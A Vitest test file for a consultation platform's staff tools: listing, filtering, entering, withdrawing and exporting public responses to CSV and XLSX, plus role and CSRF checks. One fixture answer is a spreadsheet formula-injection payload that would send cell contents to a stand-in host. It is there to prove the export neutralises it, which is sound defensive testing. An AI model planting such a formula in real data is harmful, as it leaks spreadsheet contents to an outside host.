import { randomUUID } from 'node:crypto'
import ExcelJS from 'exceljs'
import { and, eq } from 'drizzle-orm'
import { describe, expect, test } from 'vitest'
import type { PlatformRole } from '~/modules/accounts/permissions'
import { auditLog, memberships, organisations } from '~/modules/accounts/schema'
import { buildResponseTable, exportResponses, toCsv } from '~/modules/consultations/export.server'
import { newReference, normaliseReference, REFERENCE_PATTERN } from '~/modules/consultations/references'
import {
  enterResponse,
  type EnteredResponse,
  getResponse,
  listResponses,
  parseResponseFilters,
  prepareResponseEntry,
  type ResponseFilters,
  withdrawResponse,
} from '~/modules/consultations/responses-admin.server'
import { answers, consultations, responses } from '~/modules/consultations/schema'
import { getConnection, getDb } from '~/platform/db.server'
import { prepareMailQueue, queueMail } from '~/platform/mail.server'
import * as detailRoute from '~/routes/manage.consultations.$id.responses.$responseId'
import * as listRoute from '~/routes/manage.consultations.$id.responses._index'
import * as csvRoute from '~/routes/manage.consultations.$id.responses.export[.]csv'
import * as xlsxRoute from '~/routes/manage.consultations.$id.responses.export[.]xlsx'
import * as newRoute from '~/routes/manage.consultations.$id.responses.new'
import { givenConsultationOfEveryKind } from '../helpers/consultations'
import { withTestDatabase } from '../helpers/db'
import { CSRF, cookieFor, type Loader, routeContext, statusOf } from '../helpers/http'
import { givenPerson } from '../helpers/people'
import { givenResponse as givenSentResponse } from '../helpers/responses'

withTestDatabase()

const unique = () => randomUUID().slice(0, 8)

type Consultation = Awaited<ReturnType<typeof givenConsultationOfEveryKind>>

/** A sent response to the consultation, with answers to its questions by name. */
async function givenResponse(
  consultation: Consultation,
  values: Parameters<typeof givenSentResponse>[1] = {},
  given: Partial<Record<keyof Consultation['q'], { text?: string; choices?: string[] }>> = {},
) {
  const seeds = Object.entries(given).map(([key, answer]) => ({ questionId: consultation.q[key as keyof Consultation['q']].id, ...answer }))
  return (await givenSentResponse(consultation.id, values, seeds)).response
}

async function expectForbidden(attempt: () => Promise<unknown>) {
  const outcome = await attempt().then(
    () => 'allowed',
    (error: unknown) => error,
  )
  expect(outcome).toBeInstanceOf(Response)
  expect((outcome as Response).status).toBe(403)
}

async function firstSheetOf(body: Buffer) {
  const workbook = new ExcelJS.Workbook()
  await workbook.xlsx.load(body as unknown as ArrayBuffer)
  return workbook.worksheets[0]!
}

/** RFC 4180, strictly: quoted fields may hold commas, quotes (doubled) and line breaks; records end in CRLF. */
function parseCsv(text: string) {
  const rows: string[][] = []
  let row: string[] = []
  let field = ''
  let quoted = false
  const endField = () => {
    row.push(field)
    field = ''
  }
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"'
        i++
      } else if (c === '"') quoted = false
      else field += c
    } else if (c === '"' && field === '') quoted = true
    else if (c === ',') endField()
    else if (c === '\r' && text[i + 1] === '\n') {
      endField()
      rows.push(row)
      row = []
      i++
    } else if (c === '\n' || c === '\r') throw new Error(`bare line break outside quotes at ${i}`)
    else field += c
  }
  if (field || row.length) throw new Error('last record does not end with CRLF')
  return rows
}

async function csvOf(actor: { id: string; roles: PlatformRole[] }, consultationId: string, kind: 'full' | 'publishable' = 'full', filters: ResponseFilters = {}) {
  const file = await exportResponses(actor, consultationId, { kind, format: 'csv', filters })
  const text = file!.body.toString('utf8')
  expect(text.startsWith('\uFEFF')).toBe(true)
  const [headers, ...rows] = parseCsv(text.slice(1))
  return { file: file!, headers: headers!, rows, column: (name: string) => rows.map((row) => row[headers!.indexOf(name)]) }
}

describe('the responses list', () => {
  test('drafts are never listed, counted or exported', async () => {
    const official = await givenPerson({ roles: ['official'] })
    const consultation = await givenConsultationOfEveryKind()
    await givenResponse(consultation, { status: 'draft', submittedAt: null })
    const submitted = await givenResponse(consultation)
    const list = await listResponses(official, consultation.id, {})
    expect(list?.responses.map((r) => r.id)).toEqual([submitted.id])
    expect(list?.summary).toMatchObject({ submitted: 1, withdrawn: 0, byChannel: { web: 1, bsl: 0, email: 0, post: 0, event: 0 } })
    expect((await csvOf(official, consultation.id)).rows).toHaveLength(1)
    expect(await getResponse(official, consultation.id, (await givenResponse(consultation, { status: 'draft' })).id, 'en')).toBeNull()
  })

  test('filters by respondent type, channel, consent and Scottish dates give exact counts', async () => {
    const official = await givenPerson({ roles: ['official'] })
    const consultation = await givenConsultationOfEveryKind()
    const at = (iso: string) => new Date(iso)
    // 30 June 23:30 UTC is already 1 July in Scotland (BST).
    await givenResponse(consultation, { respondentType: 'individual', channel: 'web', publishConsent: 'with_name', submittedAt: at('2026-06-30T22:30:00Z') })
    await givenResponse(consultation, { respondentType: 'individual', channel: 'email', publishConsent: 'anonymous', submittedAt: at('2026-06-30T23:30:00Z') })
    await givenResponse(consultation, { respondentType: 'organisation', organisationName: 'SCVO', channel: 'post', publishConsent: 'not_published', submittedAt: at('2026-07-01T22:59:00Z') })
    await givenResponse(consultation, { respondentType: 'organisation', organisationName: 'COSLA', channel: 'email', publishConsent: 'with_name', submittedAt: at('2026-07-01T23:00:00Z') })
    await givenResponse(consultation, { respondentType: 'individual', channel: 'bsl', publishConsent: 'anonymous', submittedAt: at('2026-12-01T12:00:00Z') })
    await givenResponse(consultation, { respondentType: 'individual', channel: 'event', publishConsent: 'with_name', status: 'withdrawn', withdrawnAt: new Date(), submittedAt: at('2026-07-01T12:00:00Z') })
    const total = async (filters: ResponseFilters) => (await listResponses(official, consultation.id, filters))!.total

    expect(await total({})).toBe(5)
    expect(await total({ withdrawn: 'yes' })).toBe(6)
    expect(await total({ type: 'individual' })).toBe(3)
    expect(await total({ type: 'organisation' })).toBe(2)
    expect(await total({ channel: 'email' })).toBe(2)
    expect(await total({ channel: 'event' })).toBe(0)
    expect(await total({ channel: 'event', withdrawn: 'yes' })).toBe(1)
    expect(await total({ consent: 'not_published' })).toBe(1)
    expect(await total({ consent: 'anonymous', type: 'individual' })).toBe(2)
    expect(await total({ from: '2026-07-01', to: '2026-07-01' })).toBe(2)
    expect(await total({ from: '2026-07-01', to: '2026-07-01', withdrawn: 'yes' })).toBe(3)
    expect(await total({ to: '2026-06-30' })).toBe(1)
    expect(await total({ from: '2026-07-02' })).toBe(2)
    expect(await total({ from: '2026-07-02', channel: 'bsl' })).toBe(1)

    const list = await listResponses(official, consultation.id, { withdrawn: 'yes', channel: 'event' })
    expect(list?.responses.map((r) => r.status)).toEqual(['withdrawn'])
    expect(list?.summary).toMatchObject({ submitted: 5, withdrawn: 1, byChannel: { web: 1, email: 2, post: 1, bsl: 1, event: 0 } })
    expect((await csvOf(official, consultation.id, 'full', { channel: 'email' })).rows).toHaveLength(2)
  })

  test('a bad filter is a field error, not a failure', () => {
    const parse = (query: string) => parseResponseFilters(new URLSearchParams(query))
    expect(parse('from=2026-02-30&channel=fax&consent=maybe')).toMatchObject({
      ok: false,
      errors: { from: 'responses:errors.dateFormat', channel: 'responses:errors.invalidChoice', consent: 'responses:errors.invalidChoice' },
    })
    expect(parse('from=2026-03-02&to=2026-03-01')).toMatchObject({ ok: false, errors: { to: 'responses:errors.dateOrder' } })
    expect(parse('from=2/3/2026&to=1/3/2026')).toMatchObject({ ok: false, errors: { to: 'responses:errors.dateOrder' } })
    expect(parse('from=1/3/2026')).toMatchObject({ ok: true, query: { from: '1/3/2026' }, filters: { from: '2026-03-01' } })
    expect(parse('type=organisation&withdrawn=yes&from=&page=2')).toEqual({
      ok: true,
      query: { type: 'organisation', channel: '', consent: '', from: '', to: '', withdrawn: 'yes' },
      filters: { type: 'organisation', withdrawn: 'yes' },
    })
  })

  test('shows one response in full, with follow-ups under their question, and 404s for anything else', async () => {
    const official = await givenPerson({ roles: ['official'] })
    const consultation = await givenConsultationOfEveryKind()
    const other = await givenConsultationOfEveryKind()
    const response = await givenResponse(
      consultation,
      { respondentType: 'organisation', organisationName: 'SCVO', channel: 'post', enteredBy: official.id },
      { single: { choices: ['community'] }, explain: { text: 'Line one\nLine two' }, multiple: { choices: ['parks', 'schools'] } },
    )
    const found = await getResponse(official, consultation.id, response.id, 'gd')
    expect(found?.response).toMatchObject({ reference: response.reference, organisationName: 'SCVO', enteredBy: official.displayName })
    expect(found?.questions.map((q) => [q.number, q.followUps.map((f) => f.number)])).toEqual([['1', []], ['2', ['2a']], ['3', []], ['4', []], ['5', []], ['6', []]])
    const single = found!.questions[1]!
    expect(single.answer?.choices).toEqual(['GD community'])
    expect(single.followUps[0]?.answer?.text).toBe('Line one\nLine two')
    expect(found!.questions[2]!.answer?.choices).toEqual(['GD parks', 'GD schools'])
    expect(found!.questions[0]!.answer).toBeNull()

    expect(await getResponse(official, other.id, response.id, 'en')).toBeNull()
    expect(await getResponse(official, consultation.id, 'not-a-uuid', 'en')).toBeNull()
    expect(await getResponse(official, consultation.id, randomUUID(), 'en')).toBeNull()
    expect(await listResponses(official, 'nope', {})).toBeNull()
  })
})

describe('entering a response received offline', () => {
  const entry = (overrides: Partial<EnteredResponse> = {}): EnteredResponse => ({
    idempotencyKey: randomUUID(),
    channel: 'post',
    receivedOn: '2026-07-14',
    respondentType: 'individual',
    name: 'Ruairidh Mac a’ Phearsain',
    email: null,
    publishConsent: 'anonymous',
    contactConsent: false,
    isBslUser: null,
    answers: {},
    ...overrides,
  })

  test('is idempotent, stored as submitted at noon in Scotland, audited, and locks the questions', async () => {
    const official = await givenPerson({ roles: ['official'] })
    const consultation = await givenConsultationOfEveryKind()
    const input = entry({ answers: { [consultation.q.single.id]: { choices: 'council' }, [consultation.q.long.id]: { text: 'Aye.\r\nMore local say.' } } })
    const [first, second] = await Promise.all([enterResponse(official, consultation.id, input), enterResponse(official, consultation.id, input)])
    const third = await enterResponse(official, consultation.id, input)
    expect(first.ok && second.ok && third.ok).toBe(true)
    const ids = [first, second, third].map((o) => (o.ok ? o.responseId : null))
    expect(new Set(ids).size).toBe(1)
    expect([first, second, third].filter((o) => o.ok && o.created)).toHaveLength(1)

    const stored = await getDb().select().from(responses).where(eq(responses.consultationId, consultation.id))
    expect(stored).toHaveLength(1)
    expect(stored[0]).toMatchObject({ status: 'submitted', channel: 'post', enteredBy: official.id, idempotencyKey: input.idempotencyKey })
    expect(stored[0]!.reference).toMatch(REFERENCE_PATTERN)
    expect(stored[0]!.submittedAt?.toISOString()).toBe('2026-07-14T11:00:00.000Z')
    const storedAnswers = await getDb().select().from(answers).where(eq(answers.responseId, stored[0]!.id))
    expect(storedAnswers.map((a) => [a.text, a.choices]).sort()).toEqual([['Aye.\nMore local say.', []], [null, ['council']]].sort())
    const [locked] = await getDb().select().from(consultations).where(eq(consultations.id, consultation.id))
    expect(locked?.questionsLockedAt).toBeInstanceOf(Date)
    const audits = await getDb().select().from(auditLog).where(and(eq(auditLog.action, 'response.entered'), eq(auditLog.subjectId, stored[0]!.id)))
    expect(audits).toHaveLength(1)
    expect(audits[0]).toMatchObject({ actorId: official.id, details: { channel: 'post', reference: stored[0]!.reference } })
  })

  test('refuses missing, forged and over-long answers, saving nothing', async () => {
    const official = await givenPerson({ roles: ['official'] })
    const consultation = await givenConsultationOfEveryKind()
    const outcome = await enterResponse(
      official,
      consultation.id,
      entry({ answers: { [consultation.q.multiple.id]: { choices: ['parks', 'casino'] }, [consultation.q.long.id]: { text: 'x'.repeat(2001) } } }),
    )
    expect(outcome).toEqual({
      ok: false,
      reason: 'invalid_answers',
      errors: {
        [consultation.q.single.id]: { error: 'respond:errors.choiceMissing' },
        [consultation.q.multiple.id]: { error: 'respond:errors.choiceInvalid' },
        [consultation.q.long.id]: { error: 'respond:errors.answerTooLong', limit: 2000 },
      },
    })
    expect(await enterResponse(official, consultation.id, entry({ receivedOn: '2999-01-01', answers: { [consultation.q.single.id]: { choices: ['council'] } } }))).toEqual({ ok: false, reason: 'bad_date' })
    const draft = await givenConsultationOfEveryKind({ published: false })
    expect(await enterResponse(official, draft.id, entry())).toEqual({ ok: false, reason: 'not_published' })
    expect(await getDb().select().from(responses).where(eq(responses.consultationId, consultation.id))).toEqual([])
    const [unlocked] = await getDb().select().from(consultations).where(eq(consultations.id, consultation.id))
    expect(unlocked?.questionsLockedAt).toBeNull()
  })
})

describe('withdrawing a response', () => {
  test('marks it, keeps it out of exports, and writes the audit log', async () => {
    const official = await givenPerson({ roles: ['official'] })
    const consultation = await givenConsultationOfEveryKind()
    const kept = await givenResponse(consultation)
    const leaving = await givenResponse(consultation, { name: 'Leaving Person' })
    expect(await withdrawResponse(official, consultation.id, leaving.id, 'Asked by email on 3 July')).toEqual({ ok: true, reference: leaving.reference })
    expect(await withdrawResponse(official, consultation.id, leaving.id, 'Again')).toEqual({ ok: false, reason: 'already_withdrawn' })
    expect(await withdrawResponse(official, consultation.id, randomUUID(), 'Nobody')).toEqual({ ok: false, reason: 'not_found' })

    const [row] = await getDb().select().from(responses).where(eq(responses.id, leaving.id))
    expect(row).toMatchObject({ status: 'withdrawn', withdrawnReason: 'Asked by email on 3 July' })
    expect(row?.withdrawnAt).toBeInstanceOf(Date)
    const csv = await csvOf(official, consultation.id)
    expect(csv.column('Reference')).toEqual([kept.reference])
    expect((await csvOf(official, consultation.id, 'full', { withdrawn: 'yes' })).column('Status').sort()).toEqual(['Submitted', 'Withdrawn'])
    expect((await csvOf(official, consultation.id, 'publishable', { withdrawn: 'yes' })).column('Reference')).toEqual([kept.reference])
    const audits = await getDb().select().from(auditLog).where(and(eq(auditLog.action, 'response.withdrawn'), eq(auditLog.subjectId, leaving.id)))
    expect(audits).toHaveLength(1)
    expect(audits[0]?.actorId).toBe(official.id)
  })
})

describe('exports', () => {
  async function givenAwkwardResponses() {
    const official = await givenPerson({ roles: ['official'] })
    const consultation = await givenConsultationOfEveryKind()
    const awkward = await givenResponse(
      consultation,
      { name: 'Morag "Mo" Campbell, Esq.', email: 'morag@example.org', submittedAt: new Date('2026-07-01T09:15:00Z'), isBslUser: true },
      {
        name: { text: '=HYPERLINK("http://evil.example/?x="&A1,"click")' },
        single: { choices: ['community'] },
        explain: { text: 'Because, "frankly",\nit is closer.\n\nSecond paragraph.' },
        multiple: { choices: ['schools', 'transport'] },
        scale: { choices: ['strongly_agree'] },
        yesNo: { choices: ['dont_know'] },
        long: { text: '-1 for the current system; +1 for change @everyone' },
      },
    )
    const organisation = await givenResponse(
      consultation,
      { respondentType: 'organisation', name: 'Contact Person', organisationName: 'COSLA', email: 'info@cosla.example', publishConsent: 'anonymous', contactConsent: false, submittedAt: new Date('2026-07-02T09:00:00Z') },
      { single: { choices: ['council'] } },
    )
    const secret = await givenResponse(consultation, { name: 'Private Person', publishConsent: 'not_published', submittedAt: new Date('2026-07-03T09:00:00Z') })
    const anonymous = await givenResponse(consultation, { name: 'Quiet Person', publishConsent: 'anonymous', isBslUser: null, submittedAt: new Date('2026-07-04T09:00:00Z') })
    return { official, consultation, awkward, organisation, secret, anonymous }
  }

  const questionHeaders = [
    'Q1: What is your community called?',
    'Q2: Which level should decide on local services?',
    'Q2a: Please explain your answer',
    'Q3: Which services matter most?',
    'Q4: Decisions should be taken closer to communities.',
    'Q5: Have you taken part in a community council?',
    'Q6: Anything else you would like to tell us?',
  ]

  test('the full CSV parses back with the right columns and values, formulas neutralised', async () => {
    const { official, consultation, awkward, organisation } = await givenAwkwardResponses()
    const { file, headers, rows } = await csvOf(official, consultation.id)
    expect(file.fileName).toMatch(new RegExp(`^${consultation.slug}-responses-\\d{4}-\\d{2}-\\d{2}\\.csv$`))
    expect(file.contentType).toBe('text/csv; charset=utf-8')
    expect(headers).toEqual([
      'Reference',
      'Submitted at (ISO 8601, UTC)',
      'Submitted at (UK time)',
      'Status',
      'Received by',
      'Respondent type',
      'Publishing consent',
      'May contact again',
      'BSL user',
      'Name',
      'Organisation name',
      'Email address',
      ...questionHeaders,
    ])
    expect(rows).toHaveLength(4)
    expect(rows[0]).toEqual([
      awkward.reference,
      '2026-07-01T09:15:00.000Z',
      '2026-07-01 10:15',
      'Submitted',
      'Website',
      'Individual',
      'Publish with name',
      'Yes',
      'Yes',
      'Morag "Mo" Campbell, Esq.',
      '',
      'morag@example.org',
      `'=HYPERLINK("http://evil.example/?x="&A1,"click")`,
      'Community',
      'Because, "frankly",\nit is closer.\n\nSecond paragraph.',
      'Schools; Transport',
      'Strongly agree',
      'Don’t know',
      `'-1 for the current system; +1 for change @everyone`,
    ])
    expect(rows[1]!.slice(0, 12)).toEqual([
      organisation.reference,
      '2026-07-02T09:00:00.000Z',
      '2026-07-02 10:00',
      'Submitted',
      'Website',
      'Organisation',
      'Publish without name',
      'No',
      'No',
      'Contact Person',
      'COSLA',
      'info@cosla.example',
    ])
    expect(rows[3]![8]).toBe('')
    const audits = await getDb().select().from(auditLog).where(and(eq(auditLog.action, 'responses.exported'), eq(auditLog.subjectId, consultation.id)))
    expect(audits.map((a) => a.details)).toEqual([{ kind: 'full', format: 'csv', rows: 4, filters: {} }])
  })

  test('the XLSX parses back with exceljs and matches the CSV cell for cell, except the CSV’s anti-formula apostrophe', async () => {
    const { official, consultation } = await givenAwkwardResponses()
    for (const kind of ['full', 'publishable'] as const) {
      const csv = await csvOf(official, consultation.id, kind)
      const file = await exportResponses(official, consultation.id, { kind, format: 'xlsx', filters: {} })
      expect(file?.fileName.endsWith('.xlsx')).toBe(true)
      const sheet = await firstSheetOf(file!.body)
      expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 })
      expect(sheet.getRow(1).font?.bold).toBe(true)
      const cells: string[][] = []
      for (let r = 1; r <= sheet.rowCount; r++) {
        cells.push(csv.headers.map((_, c) => String(sheet.getRow(r).getCell(c + 1).value ?? '')))
      }
      const withoutApostrophe = (cell: string) => (/^'[=+\-@\t\r]/.test(cell) ? cell.slice(1) : cell)
      expect(cells).toEqual([csv.headers, ...csv.rows].map((row) => row.map(withoutApostrophe)))
      expect(cells.flat()).toContain('=HYPERLINK("http://evil.example/?x="&A1,"click")')
    }
  })

  test('XLSX cells show a phone number, a dash and a vertical tab as typed: string cells, no apostrophe, words kept apart', async () => {
    const official = await givenPerson({ roles: ['official'] })
    const consultation = await givenConsultationOfEveryKind()
    await givenResponse(consultation, {}, { name: { text: '+44 7700 900123' }, long: { text: '- point one\n- point two\u000bthird\u0007bell' } })
    const file = await exportResponses(official, consultation.id, { kind: 'full', format: 'xlsx', filters: {} })
    const sheet = await firstSheetOf(file!.body)
    const headers = (sheet.getRow(1).values as unknown[]).slice(1)
    const cell = (header: string) => sheet.getRow(2).getCell(headers.indexOf(header) + 1)
    const phone = cell('Q1: What is your community called?')
    const points = cell('Q6: Anything else you would like to tell us?')
    expect([phone.type, phone.value]).toEqual([ExcelJS.ValueType.String, '+44 7700 900123'])
    expect([points.type, points.value]).toEqual([ExcelJS.ValueType.String, '- point one\n- point two third bell'])

    // The CSV of the same response keeps the apostrophe, so a spreadsheet opening it computes nothing.
    const csv = await csvOf(official, consultation.id)
    expect(csv.column('Q1: What is your community called?')).toEqual(["'+44 7700 900123"])
    expect(csv.column('Q6: Anything else you would like to tell us?')[0]).toMatch(/^'- point one\n/)
  })

  test('the publishable export honours consent and never has an email column', async () => {
    const { official, consultation, awkward, organisation, secret, anonymous } = await givenAwkwardResponses()
    const csv = await csvOf(official, consultation.id, 'publishable')
    expect(csv.file.fileName).toMatch(/-responses-publishable-\d{4}-\d{2}-\d{2}\.csv$/)
    expect(csv.headers).not.toContain('Email address')
    expect(csv.headers).not.toContain('May contact again')
    expect(csv.headers.slice(0, 9)).toEqual([
      'Reference',
      'Submitted at (ISO 8601, UTC)',
      'Submitted at (UK time)',
      'Received by',
      'Respondent type',
      'Publishing consent',
      'BSL user',
      'Name',
      'Organisation name',
    ])
    expect(csv.column('Reference')).toEqual([awkward.reference, organisation.reference, anonymous.reference])
    expect(csv.column('Reference')).not.toContain(secret.reference)
    expect(csv.column('Name')).toEqual(['Morag "Mo" Campbell, Esq.', '', ''])
    expect(csv.column('Organisation name')).toEqual(['', '', ''])
    expect(csv.column('Respondent type')).toEqual(['Individual', 'Organisation', 'Individual'])
    const everything = (await csvOf(official, consultation.id, 'publishable')).rows.flat().join('\n')
    for (const privateText of ['@example.org', 'cosla.example', 'Private Person', 'Quiet Person', 'Contact Person', 'COSLA']) {
      expect(everything).not.toContain(privateText)
    }
  })

  test('toCsv quotes only what needs quoting and ends every record with CRLF', () => {
    expect(toCsv({ headers: ['a', 'b'], rows: [['x,y', 'plain'], ['say "hi"', 'two\nlines']] })).toBe('\uFEFFa,b\r\n"x,y",plain\r\n"say ""hi""","two\nlines"\r\n')
  })
})

describe('references', () => {
  test('are GUTH- and two groups of four unambiguous symbols, and forgive typing slips', () => {
    const seen = new Set(Array.from({ length: 2000 }, newReference))
    expect(seen.size).toBe(2000)
    for (const reference of seen) expect(reference).toMatch(REFERENCE_PATTERN)
    expect(normaliseReference('guth 7k3m 9qxt')).toBe('GUTH-7K3M-9QXT')
    expect(normaliseReference('GUTH-OIL0-0000')).toBe('GUTH-0110-0000')
    expect(normaliseReference('GUTH-7K3M-9QX')).toBeNull()
    expect(normaliseReference('GUTH-UUUU-0000')).toBeNull()
  })
})

describe('who may do what', () => {
  test('a citizen is refused every function', async () => {
    const citizen = await givenPerson()
    const moderator = await givenPerson({ roles: ['moderator'] })
    const consultation = await givenConsultationOfEveryKind()
    const response = await givenResponse(consultation)
    for (const person of [citizen, moderator]) {
      await expectForbidden(() => listResponses(person, consultation.id, {}))
      await expectForbidden(() => getResponse(person, consultation.id, response.id, 'en'))
      await expectForbidden(() => withdrawResponse(person, consultation.id, response.id, 'no'))
      await expectForbidden(() => prepareResponseEntry(person, consultation.id))
      await expectForbidden(() =>
        enterResponse(person, consultation.id, {
          idempotencyKey: randomUUID(),
          channel: 'email',
          receivedOn: '2026-07-01',
          respondentType: 'individual',
          publishConsent: 'anonymous',
          contactConsent: false,
          answers: {},
        }),
      )
      await expectForbidden(() => buildResponseTable(person, consultation.id, { kind: 'publishable', filters: {} }))
      await expectForbidden(() => exportResponses(person, consultation.id, { kind: 'publishable', format: 'csv', filters: {} }))
    }
    const [unchanged] = await getDb().select().from(responses).where(eq(responses.id, response.id))
    expect(unchanged?.status).toBe('submitted')
  })
})

// The pages themselves, through their loaders and actions, as each kind of person.


function post(path: string, cookie: string, fields: [string, string][]) {
  return new Request(`http://localhost${path}`, {
    method: 'POST',
    headers: { cookie, 'content-type': 'application/x-www-form-urlencoded' },
    body: new URLSearchParams([['csrf', CSRF], ...fields]),
  })
}

describe('the pages', () => {
  test('answer each kind of person as they should', async () => {
    const organisation = await getDb().insert(organisations).values({ slug: `org-${unique()}`, name: { en: 'Org' } }).returning()
    const people = {
      citizen: await givenPerson(),
      organiser: await givenPerson(),
      moderator: await givenPerson({ roles: ['moderator'] }),
      official: await givenPerson({ roles: ['official'] }),
      admin: await givenPerson({ roles: ['admin'] }),
    }
    await getDb().insert(memberships).values({ organisationId: organisation[0]!.id, userId: people.organiser.id, role: 'admin', status: 'approved' })
    const cookies: Record<string, string | undefined> = { anonymous: undefined }
    for (const [kind, person] of Object.entries(people)) cookies[kind] = await cookieFor(person.id)
    const consultation = await givenConsultationOfEveryKind()
    const response = await givenResponse(consultation)
    const base = `/manage/consultations/${consultation.id}/responses`
    const pages: [string, Loader, string, Record<string, string>][] = [
      ['list', listRoute.loader, `${base}?channel=web`, { id: consultation.id }],
      ['detail', detailRoute.loader, `${base}/${response.id}`, { id: consultation.id, responseId: response.id }],
      ['new', newRoute.loader, `${base}/new`, { id: consultation.id }],
      ['csv', csvRoute.loader, `${base}/export.csv`, { id: consultation.id }],
      ['xlsx', xlsxRoute.loader, `${base}/export.xlsx?kind=publishable`, { id: consultation.id }],
    ]
    const table: Record<string, Record<string, string>> = {}
    const expected: Record<string, Record<string, string>> = {}
    for (const [name, loader, path, params] of pages) {
      table[name] = {}
      for (const [kind, cookie] of Object.entries(cookies)) table[name][kind] = await statusOf(loader, path, params, cookie)
      expected[name] = {
        anonymous: `302 /sign-in?redirectTo=${encodeURIComponent(path)}`,
        citizen: '403',
        organiser: '403',
        moderator: '403',
        official: '200',
        admin: '200',
      }
    }
    expect(table).toEqual(expected)

    const official = cookies.official!
    expect(await statusOf(listRoute.loader, `${base}?from=2026-13-01`, { id: consultation.id }, official)).toBe('400')
    expect(await statusOf(csvRoute.loader, `${base}/export.csv?kind=everything`, { id: consultation.id }, official)).toBe('400')
    expect(await statusOf(listRoute.loader, '/manage/consultations/nope/responses', { id: 'nope' }, official)).toBe('404')
    expect(await statusOf(detailRoute.loader, `${base}/nope`, { id: consultation.id, responseId: 'nope' }, official)).toBe('404')
    const other = await givenConsultationOfEveryKind()
    expect(await statusOf(detailRoute.loader, `/manage/consultations/${other.id}/responses/${response.id}`, { id: other.id, responseId: response.id }, official)).toBe('404')

    const download = (await csvRoute.loader({ request: new Request(`http://localhost${base}/export.csv`, { headers: { cookie: official } }), params: { id: consultation.id }, context: routeContext })) as Response
    expect(download.headers.get('content-disposition')).toMatch(/^attachment; filename=".+-responses-\d{4}-\d{2}-\d{2}\.csv"$/)
    expect(download.headers.get('cache-control')).toBe('no-store')
  })

  test('the response page says whether its receipt was sent, with the mail server’s reply, and never the address', async () => {
    const cookie = await cookieFor((await givenPerson({ roles: ['official'] })).id)
    const consultation = await givenConsultationOfEveryKind()
    const response = await givenResponse(consultation)
    const path = `/manage/consultations/${consultation.id}/responses/${response.id}`
    const load = async () => {
      const data = (await detailRoute.loader({ request: new Request(`http://localhost${path}`, { headers: { cookie } }), params: { id: consultation.id, responseId: response.id }, context: routeContext })) as {
        receipt: { status: string; reply: string | null } | null
      }
      return data.receipt
    }
    expect(await load()).toBeNull()
    await prepareMailQueue()
    const deliveryId = await queueMail({ to: 'ada@example.org', subject: 'Receipt', text: 'Thanks', html: '<p>Thanks</p>', category: 'receipt', about: { type: 'response', id: response.id } })
    expect(await load()).toMatchObject({ status: 'queued', reply: null })
    await getConnection().query(`UPDATE mail_deliveries SET status = 'failed', reply = '550 5.1.1 <address>: No such user' WHERE id = $1`, [deliveryId])
    expect(await load()).toMatchObject({ status: 'failed', reply: '550 5.1.1 <address>: No such user' })
    expect(JSON.stringify(await load())).not.toContain('ada@example.org')
  })

  test('a replayed offline-entry form makes one response; withdrawing needs a reason and the form token', async () => {
    const official = await givenPerson({ roles: ['official'] })
    const cookie = await cookieFor(official.id)
    const consultation = await givenConsultationOfEveryKind()
    const base = `/manage/consultations/${consultation.id}/responses`
    const page = (await newRoute.loader({ request: new Request(`http://localhost${base}/new`, { headers: { cookie } }), params: { id: consultation.id }, context: routeContext })) as {
      idempotencyKey: string
    }
    const fields: [string, string][] = [
      ['idempotencyKey', page.idempotencyKey],
      ['channel', 'event'],
      ['receivedOn', '1/7/2026'],
      ['respondentType', 'individual'],
      ['name', 'Iain Moireach'],
      ['email', ''],
      ['publishConsent', 'with_name'],
      ['contactConsent', 'yes'],
      [`answers.${consultation.q.single.id}`, 'community'],
      [`answers.${consultation.q.multiple.id}`, 'parks'],
      [`answers.${consultation.q.multiple.id}`, 'transport'],
      [`answers.${consultation.q.name.id}`, ''],
    ]
    const send = () => newRoute.action({ request: post(`${base}/new`, cookie, fields), params: { id: consultation.id }, context: routeContext })
    const first = (await send()) as Response
    const second = (await send()) as Response
    expect(first.status).toBe(303)
    expect(second.headers.get('location')).toBe(first.headers.get('location'))
    const stored = await getDb().select().from(responses).where(eq(responses.consultationId, consultation.id))
    expect(stored).toHaveLength(1)
    expect(stored[0]).toMatchObject({ channel: 'event', name: 'Iain Moireach', contactConsent: true, isBslUser: null })
    // Written 1/7/2026, as the hint shows: noon that day in Scotland (BST).
    expect(stored[0]!.submittedAt).toEqual(new Date('2026-07-01T11:00:00Z'))
    const storedAnswers = await getDb().select().from(answers).where(eq(answers.responseId, stored[0]!.id))
    expect(storedAnswers.map((a) => a.choices).sort()).toEqual([['community'], ['parks', 'transport']])

    const missing = await newRoute.action({
      request: post(`${base}/new`, cookie, [['idempotencyKey', randomUUID()], ['channel', 'fax'], ['receivedOn', '2026-02-30']]),
      params: { id: consultation.id },
      context: routeContext,
    })
    expect(missing).toMatchObject({ init: { status: 400 } })
    const errors = (missing as { data: { result: { error: Record<string, string[]> } } }).data.result.error
    expect(errors).toMatchObject({
      channel: ['responses:errors.channelMissing'],
      receivedOn: ['responses:errors.dateFormat'],
      [`answers.${consultation.q.single.id}`]: ['responses:errors.answers.choiceMissing'],
    })

    const responseId = stored[0]!.id
    const detailPath = `${base}/${responseId}`
    const params = { id: consultation.id, responseId }
    const noReason = await detailRoute.action({ request: post(detailPath, cookie, [['reason', ' ']]), params, context: routeContext })
    expect(noReason).toMatchObject({ init: { status: 400 }, data: { result: { error: { reason: ['responses:errors.reasonMissing'] } } } })
    const forged = new Request(`http://localhost${detailPath}`, {
      method: 'POST',
      headers: { cookie, 'content-type': 'application/x-www-form-urlencoded' },
      body: new URLSearchParams({ csrf: 'd'.repeat(43), reason: 'Asked' }),
    })
    await expect(detailRoute.action({ request: forged, params, context: routeContext })).rejects.toMatchObject({ status: 403 })
    const withdrawn = (await detailRoute.action({ request: post(detailPath, cookie, [['reason', 'Phoned on 2 July']]), params, context: routeContext })) as Response
    expect(withdrawn.status).toBe(303)
    expect(withdrawn.headers.get('location')).toBe(`${detailPath}?done=withdrawn`)
    const shown = (await detailRoute.loader({ request: new Request(`http://localhost${detailPath}?done=withdrawn`, { headers: { cookie } }), params, context: routeContext })) as {
      response: { status: string }
      done: string
    }
    expect(shown).toMatchObject({ response: { status: 'withdrawn' }, done: 'withdrawn' })
  })
})
